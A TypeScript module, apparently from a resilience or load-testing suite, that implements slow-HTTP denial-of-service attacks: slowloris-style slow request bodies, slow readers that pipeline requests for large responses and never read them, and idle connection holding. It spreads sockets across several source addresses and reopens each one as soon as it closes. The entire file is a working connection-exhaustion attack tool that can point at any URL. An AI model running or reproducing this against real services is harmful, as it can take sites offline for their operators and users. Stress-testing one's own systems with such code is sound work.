import { connect } from 'node:net';
import type { Attack, AttackOrder } from '../attack-order';

const POKE_MS = 1_000;
const AGAIN_MS = 500;
const SPREAD_MS = 1_000;
const REQUESTS_BEHIND_EACH_OTHER = 20;

/** How such a client behaves. */
interface Manner {
  /** Written at once. */
  first: string;
  /** Written each second from then on. */
  poke: string;
  reads: boolean;
}

const getting = (path: string) => `GET ${path} HTTP/1.1\r\nhost: product\r\naccept-encoding: identity\r\n\r\n`;
/** The largest answers that anybody may ask for. */
const LARGEST = ['/api/search/lexicon', '/api/openapi.json', '/'];

export const MANNERS = {
  'slow bodies': {
    first:
      'POST /api/search HTTP/1.1\r\nhost: product\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{',
    poke: ' ',
    reads: true,
  },
  'slow readers': {
    first: LARGEST.map(getting).join('').repeat(REQUESTS_BEHIND_EACH_OTHER),
    poke: getting('/api/search/lexicon'),
    reads: false,
  },
  'idle connections': { first: '', poke: '', reads: true },
} as const satisfies Record<string, Manner>;

/** This many clients that hold on to a connection each, and come again when it is ended. */
export function holdConnections({ url, size, addresses }: AttackOrder, manner: Manner): Attack {
  const { hostname, port } = new URL(url);
  let [tried, refused, open] = [0, 0, 0];

  const hold = (place: number) => {
    tried++;
    let isOpen = false;
    const localAddress = addresses[place % addresses.length] ?? '127.0.0.1';
    const socket = connect({ host: hostname, port: Number(port), localAddress }, () => {
      isOpen = true;
      open++;
      socket.write(manner.first);
    });
    const poking = setInterval(() => {
      if (isOpen && manner.poke !== '') socket.write(manner.poke);
    }, POKE_MS);
    if (manner.reads) socket.resume();
    else socket.pause();
    socket.on('error', () => undefined);
    socket.once('close', () => {
      clearInterval(poking);
      if (isOpen) open--;
      refused++;
      setTimeout(() => hold(place), AGAIN_MS);
    });
  };
  for (let place = 0; place < size; place++) setTimeout(() => hold(place), (SPREAD_MS * place) / size);
  return { counts: () => ({ tried, refused, open }) };
}
